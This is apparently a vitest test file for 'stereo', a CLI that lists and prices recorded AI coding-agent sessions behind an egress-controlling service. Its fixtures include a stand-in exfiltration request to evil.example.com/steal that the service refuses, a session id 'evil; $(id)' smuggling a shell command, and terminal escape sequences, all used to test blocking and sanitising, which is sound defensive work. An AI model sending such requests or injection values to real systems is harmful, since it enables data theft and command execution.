import { type ExecFileException, execFile } from "node:child_process"
import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { describe, expect, it } from "vitest"
import { projectDir } from "../rules/sources.ts"
import { eventually, type Lab, messagesCall, openLab } from "./lab.ts"

interface Ran {
  readonly code: number
  readonly stdout: string
  readonly stderr: string
}

/** The real program beside the running service. */
function stereo(root: string, ...args: string[]): Promise<Ran> {
  const env = { ...process.env, STEREO_HOME: root, NO_COLOR: "1" }
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      [join(projectDir, "cli/main.ts"), ...args],
      { env },
      (failure: ExecFileException | null, stdout, stderr) => {
        resolve({ code: typeof failure?.code === "number" ? failure.code : failure ? 1 : 0, stdout, stderr })
      },
    )
  })
}

async function openUsedLab(): Promise<Lab> {
  const lab = await openLab()
  const session = { "x-claude-code-session-id": "0c1d-session" }
  const call = messagesCall()
  await lab.guest.send({ ...call, headers: { ...call.headers, ...session } })
  await lab.guest.send({ authority: "evil.example.com", method: "GET", path: "/steal", headers: session })
  const cut = messagesCall("cut=6")
  await lab.guest.send({ ...cut, headers: { ...cut.headers, ...session } })
  await eventually(async () => ((await lab.rows()).length === 3 ? true : null))
  return lab
}

describe("stereo sessions", () => {
  it("lists sessions beside the running service, for people and for programs", async () => {
    await using lab = await openUsedLab()
    const listed = await stereo(lab.files.home.root, "sessions", "ls", "--json")
    expect(JSON.parse(listed.stdout)).toMatchObject([
      {
        claimed: "0c1d-session",
        machine: "lab",
        team: "research",
        exchanges: 3,
        turns: 2,
        refusals: 1,
        cut: 1,
      },
    ])
    const table = await stereo(lab.files.home.root, "sessions", "ls")
    expect(table.stdout).toContain("claude-sonnet-4-6")
  })

  it("shows turns, tool calls, refusals with their rule, and cuts", async () => {
    await using lab = await openUsedLab()
    const shown = await stereo(lab.files.home.root, "sessions", "show", "0c1d")
    expect(shown.code).toBe(0)
    expect(shown.stdout).toContain("→ Bash ")
    expect(shown.stdout).toContain("GET https://evil.example.com/steal  REFUSED egress/no-rule")
    expect(shown.stdout).toContain("UPSTREAM-FAILED")
    const json = JSON.parse((await stereo(lab.files.home.root, "sessions", "show", "0c1d", "--json")).stdout)
    expect(json.steps.map((step: { outcome: string }) => step.outcome)).toEqual([
      "complete",
      "refused",
      "upstream-failed",
    ])
    expect(json.steps[0].turn.blocks[1]).toMatchObject({ kind: "tool-call", name: "Bash" })
  })

  it("writes the bodies out byte for byte", async () => {
    await using lab = await openUsedLab()
    const dir = mkdtempSync(join(tmpdir(), "stereo-bytes-"))
    await stereo(lab.files.home.root, "sessions", "show", "0c1d", "--bytes", dir)
    const names = readdirSync(dir).sort()
    expect(names).toHaveLength(6)
    expect(
      readFileSync(join(dir, names[0] ?? "")).equals(lab.provider.requests[0]?.body ?? Buffer.alloc(0)),
    ).toBe(true)
    rmSync(dir, { recursive: true })
  })

  it("keeps a guest's control characters off the terminal", async () => {
    await using lab = await openLab()
    const call = messagesCall("", {
      messages: [{ role: "user", content: "\u001b]0;owned\u0007\u001b[31mred\u202e" }],
    })
    await lab.guest.send({
      ...call,
      headers: { ...call.headers, "x-claude-code-session-id": "evil; $(id)" },
    })
    const shown = await stereo(lab.files.home.root, "sessions", "show", lab.files.record.runId)
    expect(shown.code).toBe(0)
    expect(shown.stdout).toContain("owned")
    // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what it looks for
    expect(shown.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f\u202e]/)
  })

  it("says what is wrong with an id, and where to look", async () => {
    await using lab = await openUsedLab()
    const unknown = await stereo(lab.files.home.root, "sessions", "show", "nothing")
    expect(unknown).toMatchObject({ code: 1 })
    expect(unknown.stderr).toContain("sessions/unknown")
    expect(unknown.stderr).toContain("stereo sessions ls")
  })
})

describe("stereo cost", () => {
  it("prints exact dollars by any of its keys, and marks what was cut", async () => {
    await using lab = await openUsedLab()
    const priced = await stereo(lab.files.home.root, "cost", "--by", "team,model", "--json")
    const { groups, total } = JSON.parse(priced.stdout)
    expect(groups).toMatchObject([
      { team: "research", model: "claude-sonnet-4-6", calls: 2, unpriced: 0, estimated: 1 },
    ])
    const { input, cacheWrite1h, output } = total.tokens
    expect(Number(total.costUsd) * 1e6).toBeCloseTo(input * 3 + cacheWrite1h * 6 + output * 15, 6)
    const wrong = await stereo(lab.files.home.root, "cost", "--by", "colour")
    expect(wrong.code).toBe(64)
    expect(wrong.stderr).toContain("model, session, team, project, machine")
  })

  it("of nothing says so and is no error", async () => {
    const root = mkdtempSync(join(tmpdir(), "stereo-empty-"))
    expect(await stereo(root, "cost")).toMatchObject({
      code: 0,
      stdout: "nothing has been called, so nothing was paid\n",
    })
    expect((await stereo(root, "sessions", "ls")).code).toBe(0)
    rmSync(root, { recursive: true })
  })
})
